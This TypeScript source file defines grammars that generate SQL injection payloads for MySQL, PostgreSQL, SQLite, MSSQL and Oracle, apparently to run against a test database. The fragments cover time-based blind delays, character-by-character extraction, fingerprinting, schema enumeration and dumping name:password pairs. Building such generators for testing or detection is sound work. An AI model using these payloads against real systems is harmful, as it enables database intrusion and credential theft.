import type { Rules } from '../grammar.js';
import type { Dialect } from './place.js';

/** What every dialect's grammar may use. Tables and columns are those of the executors' schema. */
const COMMON: Rules = {
  int: (random) => String(random.below(random.pick([10, 100, 9999]))),
  digit: (random) => String(1 + random.below(9)),
  scan: (random) => String(1000 + random.below(9000)),
  code: (random) => String(32 + random.below(96)),
  sec: ['5', '1', '2', '3', '10', '0.5', '7'],
  letter: [...'abcdefghijklmnopqrstuvwxyz'],
  tag: (random) =>
    Array.from({ length: 4 }, () => random.pick([...'abcdeghijkmnopqrstuvwxyzACDEFHJKMNPQRTUVWXYZ'])).join(''),
  table: ['users', 'users', 'accounts', 'members', 'customers'],
  column: ['password', 'name', 'email', 'role', 'password'],
  value: ['apple', 'pear', 'x', 'test', 'admin', 'abc', 'zzz', '1', ''],
  number: ['1', '2', '-1', '0', '3', '999', '-999', '42'],
};

const MYSQL: Rules = {
  comment: ['-- -', '-- ', '#', '-- x', '--\t', '#{tag}', ';#', ';-- -'],
  version: ['@@version', 'version()', '@@GLOBAL.version', '@@hostname', '@@datadir'],
  who: ['user()', 'current_user()', 'current_user', 'session_user()', 'system_user()'],
  db: ['database()', 'schema()'],
  substring: [
    'SUBSTRING({secret},{digit},1)',
    'SUBSTR({secret},{digit},1)',
    'MID({secret},{digit},1)',
    'LEFT({secret},{digit})',
    'RIGHT({secret},{digit})',
    'SUBSTRING({secret} FROM {digit} FOR 1)',
  ],
  ascii: ['ASCII({substring})', 'ORD({substring})', 'HEX({substring})', 'CONV(HEX({substring}),16,10)'],
  length: ['LENGTH({secret})', 'CHAR_LENGTH({secret})', 'OCTET_LENGTH({secret})'],
  sleep: [
    'SLEEP({sec})',
    'SLEEP({sec})',
    'BENCHMARK(5000000,MD5({int}))',
    'BENCHMARK(10000000,SHA1(1))',
    '(SELECT SLEEP({sec}))',
    '(SELECT {int} FROM (SELECT SLEEP({sec})) {tag})',
  ],
  secret: [
    '(SELECT {column} FROM {table} LIMIT 1)',
    '(SELECT {column} FROM {table} WHERE id=1)',
    '(SELECT {column} FROM {table} ORDER BY id LIMIT 0,1)',
    '(SELECT table_name FROM information_schema.tables WHERE table_schema=database() LIMIT 0,1)',
    '(SELECT GROUP_CONCAT({column}) FROM {table})',
    '{version}',
    '{who}',
    '{db}',
  ],
  joined: [
    'CONCAT(0x7e,{secret},0x7e)',
    'CONCAT_WS(0x3a,{who},{version})',
    "CONCAT('~',{secret})",
    'CONCAT(0x71,{secret},0x71)',
  ],
  all: [
    '(SELECT GROUP_CONCAT(name,0x3a,password) FROM users)',
    '(SELECT GROUP_CONCAT(table_name) FROM information_schema.tables WHERE table_schema=database())',
    "(SELECT GROUP_CONCAT(column_name SEPARATOR ',') FROM information_schema.columns WHERE table_name='users')",
    '(SELECT CONCAT_WS(0x3a,name,email) FROM members LIMIT {digit},1)',
  ],
  dual: ['', '', ' FROM DUAL'],
  text: ['{tag}'],
};

const POSTGRES: Rules = {
  comment: ['--', '-- ', '-- -', '--{tag}', ';--', '/*{tag}*/--'],
  version: ['version()', "current_setting('server_version')", '(SELECT version())'],
  who: ['current_user', 'session_user', 'user', 'getpgusername()'],
  db: ['current_database()', 'current_schema()', 'current_catalog'],
  substring: [
    'SUBSTRING({secret},{digit},1)',
    'SUBSTR({secret},{digit},1)',
    'SUBSTRING({secret} FROM {digit} FOR 1)',
    'LEFT({secret},{digit})',
    "SPLIT_PART({secret},'a',1)",
  ],
  ascii: ['ASCII({substring})'],
  length: ['LENGTH({secret})', 'CHAR_LENGTH({secret})', 'OCTET_LENGTH({secret})'],
  sleep: ['PG_SLEEP({sec})', '(SELECT {int} FROM PG_SLEEP({sec}))', '(SELECT COUNT(*) FROM PG_SLEEP({sec}))'],
  secret: [
    '(SELECT {column} FROM {table} LIMIT 1)',
    '(SELECT {column} FROM {table} WHERE id=1)',
    '(SELECT {column} FROM {table} ORDER BY id OFFSET 1 LIMIT 1)',
    '(SELECT usename::text FROM pg_user LIMIT 1)',
    '(SELECT tablename::text FROM pg_tables LIMIT 1)',
    "(SELECT string_agg({column},',') FROM {table})",
    '{version}',
    '{who}::text',
    '{db}::text',
  ],
  joined: ["'~'||{secret}", 'CHR(113)||{secret}||CHR(113)', "CONCAT('~',{secret})", "{who}||':'||{db}"],
  all: [
    "(SELECT string_agg(name||':'||password,',') FROM users)",
    "(SELECT string_agg(table_name,',') FROM information_schema.tables WHERE table_schema='public')",
    "(SELECT array_to_string(array_agg(email),',') FROM accounts)",
    '(SELECT json_agg(members)::text FROM members)',
    "query_to_xml('select * from users',true,true,'')::text",
  ],
  dual: [''],
  text: ['{tag}'],
};

const SQLITE: Rules = {
  comment: ['--', '-- ', '-- -', '--{tag}', ';--', ';', '/*', ';\u0000'],
  version: ['sqlite_version()', 'sqlite_source_id()'],
  who: ['sqlite_version()'],
  db: ['(SELECT name FROM pragma_database_list LIMIT 1)'],
  substring: ['SUBSTR({secret},{digit},1)', 'SUBSTRING({secret},{digit},1)'],
  ascii: ['UNICODE({substring})', 'HEX({substring})'],
  length: ['LENGTH({secret})', 'LENGTH(HEX({secret}))'],
  sleep: [
    'UPPER(HEX(RANDOMBLOB(5000000)))',
    "LIKE('{tag}',UPPER(HEX(RANDOMBLOB(5000000))))",
    'LENGTH(HEX(ZEROBLOB(9000000)))',
  ],
  secret: [
    '(SELECT {column} FROM {table} LIMIT 1)',
    '(SELECT {column} FROM {table} WHERE id=1)',
    '(SELECT {column} FROM {table} LIMIT 1 OFFSET 1)',
    "(SELECT tbl_name FROM sqlite_master WHERE type='table' LIMIT 1)",
    '(SELECT sql FROM sqlite_master LIMIT 1)',
    '(SELECT group_concat({column}) FROM {table})',
    '{version}',
  ],
  joined: ["'~'||{secret}", 'CHAR(113)||{secret}||CHAR(113)', "{version}||':'||{secret}", "printf('%s',{secret})"],
  all: [
    "(SELECT group_concat(name||':'||password) FROM users)",
    "(SELECT group_concat(tbl_name) FROM sqlite_master WHERE type='table' and tbl_name NOT like 'sqlite_%')",
    "(SELECT sql FROM sqlite_schema WHERE tbl_name='users')",
    '(SELECT json_group_array(email) FROM accounts)',
  ],
  dual: [''],
  text: ['{tag}'],
};

const MSSQL: Rules = {
  comment: ['--', '-- ', '-- -', '--{tag}', ';--', ';'],
  version: ['@@VERSION', '@@SERVERNAME', "SERVERPROPERTY('edition')"],
  who: ['SYSTEM_USER', 'USER_NAME()', 'SUSER_SNAME()', 'CURRENT_USER'],
  db: ['DB_NAME()', 'DB_NAME({digit})'],
  substring: ['SUBSTRING({secret},{digit},1)', 'LEFT({secret},{digit})', 'RIGHT({secret},{digit})'],
  ascii: ['ASCII({substring})', 'UNICODE({substring})'],
  length: ['LEN({secret})', 'DATALENGTH({secret})'],
  sleep: ['(SELECT COUNT(*) FROM sysusers AS a,sysusers AS b,sysusers AS c,sysusers AS d)'],
  secret: [
    '(SELECT TOP 1 {column} FROM {table})',
    '(SELECT TOP 1 name FROM sysobjects WHERE xtype=CHAR(85))',
    '(SELECT TOP 1 name FROM master..sysdatabases)',
    '(SELECT TOP 1 table_name FROM information_schema.tables)',
    '{version}',
    '{who}',
    '{db}',
  ],
  joined: ["'~'+{secret}", 'CHAR(113)+{secret}+CHAR(113)', "CONCAT('~',{secret})"],
  all: [
    "(SELECT name+':'+password+',' FROM users FOR XML PATH(''))",
    "(SELECT STRING_AGG(name,',') FROM sys.tables)",
    "(SELECT TOP 1 name FROM syscolumns WHERE id=OBJECT_ID('users'))",
  ],
  dual: [''],
  text: ['{tag}'],
};

const ORACLE: Rules = {
  comment: ['--', '-- ', '-- -', '--{tag}'],
  version: ['(SELECT banner FROM v$version WHERE ROWNUM=1)', '(SELECT version FROM v$instance)'],
  who: ['USER', '(SELECT user FROM dual)', "SYS_CONTEXT('USERENV','SESSION_USER')"],
  db: ['(SELECT global_name FROM global_name)', "SYS_CONTEXT('USERENV','DB_NAME')", 'ORA_DATABASE_NAME'],
  substring: ['SUBSTR({secret},{digit},1)', 'SUBSTRC({secret},{digit},1)'],
  ascii: ['ASCII({substring})', 'RAWTOHEX({substring})'],
  length: ['LENGTH({secret})'],
  sleep: [
    "DBMS_PIPE.RECEIVE_MESSAGE('{tag}',{sec})",
    'DBMS_PIPE.RECEIVE_MESSAGE(CHR(97)||CHR(98),{sec})',
    '(SELECT COUNT(*) FROM ALL_USERS T1,ALL_USERS T2,ALL_USERS T3,ALL_USERS T4)',
  ],
  secret: [
    '(SELECT {column} FROM {table} WHERE ROWNUM=1)',
    '(SELECT table_name FROM all_tables WHERE ROWNUM=1)',
    '(SELECT username FROM all_users WHERE ROWNUM=1)',
    '{version}',
    '{who}',
  ],
  joined: ["'~'||{secret}", 'CHR(113)||{secret}||CHR(113)'],
  all: [
    "(SELECT LISTAGG(name||':'||password,',') WITHIN GROUP (ORDER BY id) FROM users)",
    "(SELECT LISTAGG(table_name,',') WITHIN GROUP (ORDER BY 1) FROM user_tables)",
  ],
  dual: [' FROM DUAL', ' FROM dual'],
  text: ['{tag}'],
};

/** A dialect's own words: how it ends a statement, waits, joins texts and reads what it should not. */
export const VOCABULARY: Readonly<Record<Dialect, Rules>> = {
  mysql: { ...COMMON, ...MYSQL },
  postgres: { ...COMMON, ...POSTGRES },
  sqlite: { ...COMMON, ...SQLITE },
  mssql: { ...COMMON, ...MSSQL },
  oracle: { ...COMMON, ...ORACLE },
};
